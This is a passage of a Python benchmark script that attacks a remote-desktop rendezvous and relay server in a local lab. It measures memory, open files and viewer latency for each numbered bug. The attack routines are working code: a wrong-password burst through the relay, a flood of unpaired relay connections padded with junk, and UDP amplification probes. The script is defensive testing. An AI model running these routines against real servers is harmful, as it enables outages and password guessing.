            4,
            "host",
            f"{burst} wrong passwords through the relay from {ATTACKER}, then the right one "
            f"from 127.0.0.1 (retried up to {wait_cap:.0f} s)",
        )
        host = self.lab.start_host("password")
        try:
            self._before(r, host, "relay")
            t0 = time.monotonic()
            outcomes: list[str] = []
            burst_deadline = time.monotonic() + 40.0
            for _ in range(burst):
                if time.monotonic() > burst_deadline:
                    break
                outcomes.append(self._wrong_password(host))
            t_burst = time.monotonic()
            r.figures["burst_s"] = round(t_burst - t0, 2)
            r.figures["attacker_outcomes"] = _count(outcomes)
            tries = 0
            got: float | None = None
            errors: list[str] = []
            while time.monotonic() - t_burst < wait_cap:
                tries += 1
                rec = self.lab.viewer(host, "relay")
                if "first_frame" in rec:
                    # From the end of the burst to this viewer's first frame.
                    got = rec["start"] + rec["imports"] + rec["first_frame"] - t_burst
                    r.during.append(rec)
                    break
                errors.append(str(rec.get("error", "?"))[:100])
                time.sleep(0.5)
            r.figures["right_password_after_s"] = round(got, 2) if got is not None else None
            r.figures["right_password_tries"] = tries
            r.figures["right_password_errors"] = _count(errors)
            self._after(r, host, t0)
        finally:
            self.lab.stop_host(host)
        return r

    def _relay_for(self, rv: socket.socket, host: Host, deadline: float) -> rz.RelayResponse | str:
        """Ask the server on C{rv} for a forced relay to C{host}: its answer, or what failed."""
        server = self.lab.server
        dec = FrameDecoder(1 << 20)
        rv.bind((ATTACKER, 0))
        rv.settimeout(5)
        rv.connect((LOCAL, server.port))
        rv.sendall(
            framed(
                rz.RendezvousMessage(
                    punch_hole_request=rz.PunchHoleRequest(
                        id=host.peer_id,
                        licence_key=server.key,
                        nat_type=rz.SYMMETRIC,
                        conn_type=rz.DEFAULT_CONN,
                        version="1.4.9",
                        force_relay=True,
                    )
                )
            )
        )
        rr = None
        while rr is None and time.monotonic() < deadline:
            for f in read_frames(rv, dec, deadline):
                m = rz.RendezvousMessage()
                m.ParseFromString(f)
                kind = m.WhichOneof("union")
                if kind == "relay_response":
                    rr = m.relay_response
                elif kind == "punch_hole_response":
                    return "rendezvous refused"
        return "no relay response" if rr is None else rr

    def _wrong_password(self, host: Host) -> str:
        """One relayed login with a wrong password, as an attacker: what the host answered."""
        server = self.lab.server
        deadline = time.monotonic() + 10.0
        rv = socket.socket()
        relay = None
        try:
            rr = self._relay_for(rv, host, deadline)
            if isinstance(rr, str):
                return rr
            if rr.refuse_reason:
                return f"relay refused: {rr.refuse_reason}"
            rhost, _, rport = (rr.relay_server or f"{LOCAL}:{server.relay_port}").rpartition(":")
            relay = socket.socket()
            relay.bind((ATTACKER, 0))
            relay.settimeout(5)
            relay.connect((rhost, int(rport)))
            relay.sendall(
                framed(
                    rz.RendezvousMessage(
                        request_relay=rz.RequestRelay(uuid=rr.uuid, licence_key=server.key)
                    )
                )
            )
            skip_signed_id(relay)
            tls = _attack_tls_context().wrap_socket(relay)
            sdec = FrameDecoder(1 << 24)
            sent = False
            while time.monotonic() < deadline:
                for f in read_frames(tls, sdec, deadline):
                    sm = pb.Message()
                    sm.ParseFromString(f)
                    kind = sm.WhichOneof("union")
                    if kind == "hash" and not sent:
                        login = pb.LoginRequest(
                            username=host.peer_id,
                            password=os.urandom(32),
                            my_id="attacker",
                            my_name="attacker",
                            version="1.4.9",
                        )
                        tls.sendall(framed(pb.Message(login_request=login)))
                        sent = True
                    elif kind == "login_response":
                        return sm.login_response.error or "logged in (?)"
            return "no login response"
        except (OSError, ssl.SSLError, ValueError) as e:
            return f"{type(e).__name__}"
        finally:
            rv.close()
            if relay is not None:
                relay.close()

    def relay_unpaired(self) -> Result:
        n = 1024
        early = 256 * 1024
        hold = 6.0 if self.quick else 8.0
        sources = [f"127.0.2.{i}" for i in range(1, 9)]
        r = Result(
            "relay-unpaired",
            6,
            "server",
            f"{n} unpaired relay connections from {len(sources)} addresses, each "
            f"RequestRelay + {early // 1024} KiB, held {hold:.0f} s",
        )
        host = self.lab.start_host("relay-unpaired")
        socks: list[socket.socket] = []
        try:
            self._before(r, host, "relay")
            t0 = time.monotonic()
            socks, failed = open_many((LOCAL, self.lab.server.relay_port), sources, n, 15.0)
            r.figures["connected"] = len(socks)
            r.figures["connect_failed"] = failed
            junk = b"\0" * early
            pending = {
                s: framed(
                    rz.RendezvousMessage(
                        request_relay=rz.RequestRelay(
                            uuid=str(uuidlib.uuid4()), licence_key=self.lab.server.key
                        )
                    )
                )
                + junk
                for s in socks
            }
            deadline = time.monotonic() + 15.0
            while pending and time.monotonic() < deadline:
                progressed = False
                for s, data in list(pending.items()):
                    try:
                        k = s.send(data)
                    except (BlockingIOError, InterruptedError):
                        continue
                    except OSError:
                        del pending[s]
                        continue
                    progressed = True
                    if k == len(data):
                        del pending[s]
                    else:
                        pending[s] = data[k:]
                if not progressed:
                    time.sleep(0.01)
            r.figures["early_data_unsent_mib"] = round(
                sum(len(d) for d in pending.values()) / MIB, 1
            )
            viewers = self._viewers_during(r, host, "relay")
            closed, _ = self._hold(hold, socks)
            viewers.join(60)
            r.figures["closed_by_target"] = closed
            close_all(socks)
            socks = []
            self._after(r, host, t0)
        finally:
            close_all(socks)
            self.lab.stop_host(host)
        return r

    def udp(self) -> Result:
        r = Result(
            "udp",
            7,
            "server",
            "RegisterPeer probes to a server with --serial 7 and 12 -R servers",
        )
        servers = ",".join(f"rendezvous-{i:02d}.example.net:21116" for i in range(1, 13))
        srv = self.lab.start_server("server-udp", "--serial", "7", "-R", servers, "--no-relay")
        r.target = "server-udp"
        self.lab.sampler.watch("server-udp", srv.proc.pid)
        count = 50 if self.quick else 200
        try:
            r.rss_before, r.fds_before = rss_mib(srv.proc.pid), open_files(srv.proc.pid)
            r.fd_limit = nofile_limit(srv.proc.pid)
            t0 = time.monotonic()
            probes = [
                ("5-byte", rz.RegisterPeer(id="1")),
                ("realistic", rz.RegisterPeer(id="123456789", serial=1)),
            ]
            out = []
            for label, rp in probes:
                data = rz.RendezvousMessage(register_peer=rp).SerializeToString()
                out.append(_udp_probe(label, data, srv.port, count))
            r.figures["probes"] = out
            t1 = time.monotonic()
            r.rss_peak, r.fds_peak = self.lab.sampler.peak("server-udp", t0, t1)
            r.rss_peak = max(r.rss_peak, r.rss_before)
            r.fds_peak = max(r.fds_peak, r.fds_before)
            r.rss_after, r.fds_after = rss_mib(srv.proc.pid), open_files(srv.proc.pid)
            r.settle_s = 0.0
        finally:
            self.lab.sampler.unwatch("server-udp")
            stop_procs([srv.proc])
        return r


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def _count(items: list[str]) -> dict[str, int]:
    c: dict[str, int] = {}
    for i in items:
        c[i] = c.get(i, 0) + 1
    return c


def _udp_probe(label: str, data: bytes, port: int, count: int) -> dict[str, Any]:
    """Send C{count} probes at 250/s from the attacker address; sum what comes back."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((ATTACKER, 0))
    s.setblocking(False)
    got = 0
    replies = 0
    largest = 0
    kinds: dict[str, int] = {}

    def drain() -> None:
        nonlocal got, replies, largest
        for _ in range(10000):  # bounded
            try:
                reply = s.recv(65536)
            except (BlockingIOError, InterruptedError):
                return
            got += len(reply)
            replies += 1
            largest = max(largest, len(reply))
            m = rz.RendezvousMessage()
            try:
                m.ParseFromString(reply)
                kind = m.WhichOneof("union") or "?"
            except Exception:
                kind = "unparsable"
            kinds[kind] = kinds.get(kind, 0) + 1

    try:
        for _ in range(count):
            s.sendto(data, (LOCAL, port))
            drain()
            time.sleep(0.004)
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            drain()
            time.sleep(0.02)
    finally:
        s.close()
    sent = len(data) * count
    return {
        "probe": label,
        "request_size": len(data),
        "sent": count,
        "bytes_in": sent,
        "replies": replies,
        "bytes_out": got,
        "ratio": round(got / sent, 2),
        "max_reply": largest,
        "reply_kinds": kinds,
    }


# -- report ----------------------------------------------------------------------------------


def _f(x: float, fmt: str = ".0f") -> str:
    return "-" if x != x else format(x, fmt)


def _ff(r: Result) -> str:
    base = r.base_ff
    if r.name == "password":
        t = r.figures.get("right_password_after_s")
        got = "never" if t is None else f"{t:.1f} s"
        return f"ref {_f(base, '.2f')} s; right pw after burst: {got}"
    if not r.during:
        return "-"
    during = r.during_ff
    failed = f", {r.during_failed}/{len(r.during)} failed" if r.during_failed else ""
    return f"{_f(base, '.2f')} -> {_f(during, '.2f')} s (x{_f(during / base, '.2f')}{failed})"


def print_attack(r: Result) -> None:
    print(f"\n[{r.name}] bug {r.bug}: {r.what}", flush=True)
    limit = f" (limit {r.fd_limit})" if r.fd_limit > 0 else ""
    print(
        f"  {r.target} RSS MiB  before {_f(r.rss_before, '.1f')}  peak {_f(r.rss_peak, '.1f')}  "
        f"after {_f(r.rss_after, '.1f')}  growth {_f(r.rss_growth, '.1f')}"
        f"  (goal <= {GOAL_RSS_MIB:.0f})"
    )
    print(
        f"  {r.target} open files  before {r.fds_before}  peak {r.fds_peak}  "
        f"after {r.fds_after}{limit}  settled in {_f(r.settle_s, '.1f')} s  "
        f"EMFILE log lines {r.emfile_log_lines}"
    )
    if r.baseline or r.during:
        print(f"  legit viewer ({r.viewer_path}) first frame: {_ff(r)}  (goal x <= 2)")
        for rec in r.during:
            if "error" in rec:
                print(f"    during: {rec['error']}")
    for k, v in r.figures.items():
        print(f"  {k}: {v}")
    for n in r.notes:
        print(f"  note: {n}")
    verdicts = r.verdicts()
    print("  goals: " + ", ".join(f"{k} {'PASS' if ok else 'MISS'}" for k, ok in verdicts.items()))


def print_table(results: list[Result]) -> None:
    print("\nSummary (RSS in MiB; files = open fds; first frame ref -> during the attack)")
    head = (
        f"{'attack':15} {'target':10} {'RSS before/peak/after':>22} {'files b/peak/a':>16} "
        f"{'exh':>4}  {'legit first frame':40} goals"
    )
    print(head)
    print("-" * len(head))
    for r in results:
        rss = f"{_f(r.rss_before)}/{_f(r.rss_peak)}/{_f(r.rss_after)}"
        files = f"{r.fds_before}/{r.fds_peak}/{r.fds_after}"
        extra = ""
        if r.name == "udp":
            extra = "  " + "; ".join(
                f"{p['probe']} {p['request_size']} B -> max {p['max_reply']} B, "
                f"out/in x{p['ratio']}"
                for p in r.figures.get("probes", [])
            )
        elif r.name == "reqrelay":
            extra = f"  ({r.figures.get('connections_to_attacker')} conns to attacker)"
        elif "closed_by_target" in r.figures:
            opened = r.figures.get("connected", r.figures.get("tls_connected", 1))
            extra = f"  (target closed {r.figures['closed_by_target']}/{opened} in the hold)"
        verdicts = r.verdicts()
        misses = [k for k, ok in verdicts.items() if not ok]
        goals = "all PASS" if not misses else "MISS: " + ", ".join(misses)
        print(
            f"{r.name:15} {r.target:10} {rss:>22} {files:>16} "
            f"{'yes' if r.exhausted else 'no':>4}  {_ff(r):40} {goals}{extra}"
        )


ATTACKS = (
    "idle",
    "idle-spread",
    "slow-tls",
    "frame16",
    "testdelay",
    "reqrelay",
    "password",
    "relay-unpaired",
    "udp",
)


def main() -> int:
    p = argparse.ArgumentParser(description=(__doc__ or "").split("\n")[0])
    p.add_argument("--quick", action="store_true", help="shorter holds, fewer connections")
    p.add_argument("--json", type=Path, help="also write the figures here")
    p.add_argument("--only", action="append", choices=ATTACKS, help="run this attack (repeat)")
    p.add_argument("--keep", action="store_true", help="keep the temporary directory (logs)")
    args = p.parse_args()
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < 4096 <= hard or (hard == resource.RLIM_INFINITY and soft < 4096):
        # This process holds up to ~1,100 attacker sockets at once.
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 65536), hard))
    workdir = Path(tempfile.mkdtemp(prefix="litedesk-bench-hostile-"))
    started = time.monotonic()
    print(
        f"bench/hostile.py: {'quick' if args.quick else 'full'} run, {os.cpu_count()} cpus, "
        f"load {os.getloadavg()[0]:.2f}, logs in {workdir}",
        flush=True,
    )
    lab = Lab(workdir, args.quick)
    bench = Bench(lab, args.quick)
    plan: list[tuple[str, Callable[[], Result]]] = [
        ("idle", lambda: bench.idle(spread=False)),
        ("idle-spread", lambda: bench.idle(spread=True)),
        ("slow-tls", bench.slow_tls),
        ("frame16", bench.frame16),
        ("testdelay", bench.testdelay),
        ("reqrelay", bench.reqrelay),
        ("password", bench.password),
        ("relay-unpaired", bench.relay_unpaired),
        ("udp", bench.udp),
    ]
    results: list[Result] = []
    try:
        for name, run in plan:
            if args.only and name not in args.only:
                continue
            try:
                r = run()
            except Exception as e:  # one broken attack must not hide the others' figures
                print(f"\n[{name}] failed to run: {type(e).__name__}: {e}", flush=True)
                continue
            results.append(r)
            print_attack(r)
    finally:
        lab.stop()
    print_table(results)
    elapsed = time.monotonic() - started
    print(f"\n{elapsed:.0f} s, load {os.getloadavg()[0]:.2f} at the end")
    if args.json:
        args.json.write_text(
            json.dumps(
                {
                    "quick": args.quick,
                    "cpus": os.cpu_count(),
                    "seconds": elapsed,
                    "results": [r.to_json() for r in results],
                },
                indent=2,
                default=str,
            )
        )
    if not args.keep:
        import shutil

        shutil.rmtree(workdir, ignore_errors=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
